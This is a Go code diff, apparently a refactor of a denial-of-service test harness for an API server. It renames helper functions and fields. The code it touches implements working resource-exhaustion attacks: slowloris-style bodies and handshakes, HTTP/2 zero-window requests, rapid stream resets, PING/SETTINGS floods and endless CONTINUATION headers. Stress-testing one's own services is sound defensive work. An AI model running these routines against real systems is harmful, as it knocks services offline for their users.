@@ -16,13 +16,13 @@ import (
 // largeList is a path whose response has several megabytes.
 const largeList = "/api/v1/namespaces/hostile/configmaps"
 
-// connections returns the attacks on connections and streams.
-func connections() []attack {
+// connectionAttacks returns the attacks on connections and streams.
+func connectionAttacks() []attack {
 	return []attack{
 		{"bodies that never arrive", 300, func(ctx context.Context, x *target, _ *rand.Rand) {
 			if conn, err := x.dial(ctx, "http/1.1"); err == nil {
 				fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", largeList)
-				holdOpen(ctx, conn)
+				holdConnectionOpen(ctx, conn)
 			}
 		}},
 		{"responses never read", 100, func(ctx context.Context, x *target, _ *rand.Rand) {
@@ -34,7 +34,7 @@ func connections() []attack {
 		{"slow handshakes", 300, func(ctx context.Context, x *target, _ *rand.Rand) {
 			if conn, err := x.dialTCP(ctx); err == nil {
 				_, _ = conn.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}) // the beginning of a ClientHello
-				holdOpen(ctx, conn)
+				holdConnectionOpen(ctx, conn)
 			}
 		}},
 		{"endless handshakes", 8, func(ctx context.Context, x *target, _ *rand.Rand) {
@@ -47,7 +47,7 @@ func connections() []attack {
 			conn, err := x.dial(ctx, "http/1.1")
 			<-x.dialing
 			if err == nil {
-				holdOpen(ctx, conn)
+				holdConnectionOpen(ctx, conn)
 			}
 		}},
 		{"many headers", 8, func(ctx context.Context, x *target, _ *rand.Rand) {
@@ -69,28 +69,29 @@ func connections() []attack {
 				<-ctx.Done()
 			}
 		}},
-		{"zero windows", 8, zeroWindows},
-		{"resets", 8, resets},
-		{"pings and settings", 4, controlFrames},
-		{"endless headers", 4, continuations},
+		{"zero windows", 8, requestWithoutWindow},
+		{"resets", 8, resetStreams},
+		{"pings and settings", 4, floodControlFrames},
+		{"endless headers", 4, sendEndlessHeaders},
 	}
 }
 
-// rawHTTP2 is an HTTP/2 client that may violate the protocol.
+// rawHTTP2 is an HTTP/2 connection of a client that may violate the protocol.
 type rawHTTP2 struct {
 	*http2.Framer
-	block bytes.Buffer
-	enc   *hpack.Encoder
+	encoded bytes.Buffer
+	encoder *hpack.Encoder
 }
 
-// http2 opens an HTTP/2 connection with an initial window for streams. It returns nil on failure.
-func (x *target) http2(ctx context.Context, window uint32) *rawHTTP2 {
+// dialRawHTTP2 opens an HTTP/2 connection with an initial window for streams. It returns nil on
+// failure.
+func (x *target) dialRawHTTP2(ctx context.Context, window uint32) *rawHTTP2 {
 	conn, err := x.dial(ctx, "h2")
 	if err != nil {
 		return nil
 	}
 	c := &rawHTTP2{Framer: http2.NewFramer(conn, conn)}
-	c.enc = hpack.NewEncoder(&c.block)
+	c.encoder = hpack.NewEncoder(&c.encoded)
 	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
 		err = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
 	}
@@ -103,21 +104,23 @@ func (x *target) http2(ctx context.Context, window uint32) *rawHTTP2 {
 	return c
 }
 
-func (c *rawHTTP2) headers(path string) []byte {
-	c.block.Reset()
+// encodeHeaders returns the header block of a GET. It is valid until the next call.
+func (c *rawHTTP2) encodeHeaders(path string) []byte {
+	c.encoded.Reset()
 	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "a"}, {":path", path}} {
-		_ = c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		_ = c.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
 	}
-	return c.block.Bytes()
+	return c.encoded.Bytes()
 }
 
+// get sends a GET on a stream.
 func (c *rawHTTP2) get(id uint32, path string) error {
-	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(path), EndHeaders: true, EndStream: true})
+	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.encodeHeaders(path), EndHeaders: true, EndStream: true})
 }
 
-// zeroWindows requests large lists with a window of zero, so that no response can be sent.
-func zeroWindows(ctx context.Context, x *target, _ *rand.Rand) {
-	c := x.http2(ctx, 0)
+// requestWithoutWindow requests large lists with a window of zero, so that no response can be sent.
+func requestWithoutWindow(ctx context.Context, x *target, _ *rand.Rand) {
+	c := x.dialRawHTTP2(ctx, 0)
 	if c == nil {
 		return
 	}
@@ -129,9 +132,9 @@ func zeroWindows(ctx context.Context, x *target, _ *rand.Rand) {
 	<-ctx.Done()
 }
 
-// resets opens streams and resets them at once.
-func resets(ctx context.Context, x *target, _ *rand.Rand) {
-	c := x.http2(ctx, 1<<16)
+// resetStreams opens streams and resets them at once.
+func resetStreams(ctx context.Context, x *target, _ *rand.Rand) {
+	c := x.dialRawHTTP2(ctx, 1<<16)
 	if c == nil {
 		return
 	}
@@ -142,8 +145,9 @@ func resets(ctx context.Context, x *target, _ *rand.Rand) {
 	}
 }
 
-func controlFrames(ctx context.Context, x *target, _ *rand.Rand) {
-	c := x.http2(ctx, 1<<16)
+// floodControlFrames sends PING and SETTINGS frames in a loop.
+func floodControlFrames(ctx context.Context, x *target, _ *rand.Rand) {
+	c := x.dialRawHTTP2(ctx, 1<<16)
 	if c == nil {
 		return
 	}
@@ -151,23 +155,23 @@ func controlFrames(ctx context.Context, x *target, _ *rand.Rand) {
 	}
 }
 
-// continuations sends a header section in CONTINUATION frames that never end.
-func continuations(ctx context.Context, x *target, _ *rand.Rand) {
-	c := x.http2(ctx, 1<<16)
+// sendEndlessHeaders sends a header section in CONTINUATION frames that never end.
+func sendEndlessHeaders(ctx context.Context, x *target, _ *rand.Rand) {
+	c := x.dialRawHTTP2(ctx, 1<<16)
 	if c == nil {
 		return
 	}
-	if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(largeList), EndStream: true}) != nil {
+	if c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.encodeHeaders(largeList), EndStream: true}) != nil {
 		return
 	}
 	for {
-		c.block.Reset()
-		_ = c.enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8000), Sensitive: true})
-		if c.WriteContinuation(1, false, c.block.Bytes()) != nil {
+		c.encoded.Reset()
+		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8000), Sensitive: true})
+		if c.WriteContinuation(1, false, c.encoded.Bytes()) != nil {
 			return
 		}
 	}
 }
 
-// client returns a client with the attacker's certificate and its own connections.
-func (x *target) client() *http.Client { return client(x.mallory) }
+// attackerClient returns a client with the attacker's certificate and new connections.
+func (x *target) attackerClient() *http.Client { return newClient(x.attackerCert) }
